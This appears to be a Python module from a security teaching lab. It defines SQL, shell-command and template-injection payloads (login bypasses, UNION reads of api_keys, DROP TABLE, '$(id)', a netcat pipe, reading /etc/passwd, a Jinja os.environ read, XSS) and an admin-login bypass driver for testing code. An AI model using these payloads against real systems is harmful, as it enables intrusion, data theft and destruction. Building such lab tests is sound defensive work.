"""Injection payloads (SQL, OS command/argument, template) and attack drivers."""

from __future__ import annotations

import os
import secrets
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

from seclab.attacks import AttackResult

#: Usernames that turn a string-built login query into "log in as admin".
SQL_LOGIN_BYPASS = [
    "admin' --",
    "admin'/*",
    "admin' OR '1'='1",
    "' OR name = 'admin' --",
]

#: Values for a numeric id that a string-built query executes as SQL.
SQL_ID_PAYLOADS = [
    "1 OR 1=1",
    "0 UNION SELECT user_id, api_key, 1 FROM api_keys",
    "1; DROP TABLE users",
    "1 --",
]

#: Name prefixes that break out of a string-built LIKE or match too much.
SQL_PREFIX_PAYLOADS = [
    "' OR 1=1 --",
    "x' UNION SELECT id, api_key, user_id FROM api_keys --",
    "%",
    "_",
]

#: Host values that a shell or ``ping`` itself would treat as more than a host.
BAD_HOSTS = [
    "",
    "-c 100000",
    "--help",
    "example.com; touch pwned",
    "example.com && id",
    "$(id)",
    "`id`",
    "example.com | nc 127.0.0.1 4444",
    "example.com\ncat /etc/passwd",
    "exa mple.com",
]

#: Host values that are plain hostnames or IP addresses.
GOOD_HOSTS = ["example.com", "127.0.0.1", "localhost", "my-host.internal", "::1"]

#: The environment variable a template-injection payload reads to prove it reached ``os``.
#: Whoever fires the payload plants a harmless value there first (``planted_value``): a
#: payload never reads the real environment, which holds what a notebook must not print.
PLANTED_VARIABLE = "SAFER_PYTHON_DEMO_SECRET"

#: Names that a template engine executes if they are used as the template.
TEMPLATE_PAYLOADS = [
    "{{ 7 * 7 }}",
    "{% for i in range(3) %}x{% endfor %}",
    f'{{{{ cycler.__init__.__globals__.os.environ["{PLANTED_VARIABLE}"] }}}}',
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
]


@contextmanager
def planted_value() -> Iterator[str]:
    """Plant a fresh, harmless fake secret in ``PLANTED_VARIABLE`` for the length of the block.

    Yields the value; the variable's earlier state is restored afterwards.
    """
    value = "fake-secret-" + secrets.token_hex(4)
    before = os.environ.get(PLANTED_VARIABLE)
    os.environ[PLANTED_VARIABLE] = value
    try:
        yield value
    finally:
        if before is None:
            os.environ.pop(PLANTED_VARIABLE, None)
        else:
            os.environ[PLANTED_VARIABLE] = before


LoginFunction = Callable[[sqlite3.Connection, str, str], Any]


def login_as_admin(login: LoginFunction, conn: sqlite3.Connection, username: str) -> AttackResult:
    """Try to log in as admin with ``username`` and a password nobody knows."""
    try:
        user = login(conn, username, "not-the-password")
    except sqlite3.Error as error:
        return AttackResult(username, False, f"the query failed: {error}")
    if user and user.get("role") == "admin":
        return AttackResult(username, True, f"logged in as {user['name']} (role {user['role']})")
    return AttackResult(username, False, "login refused" if not user else f"logged in as {user['name']}")
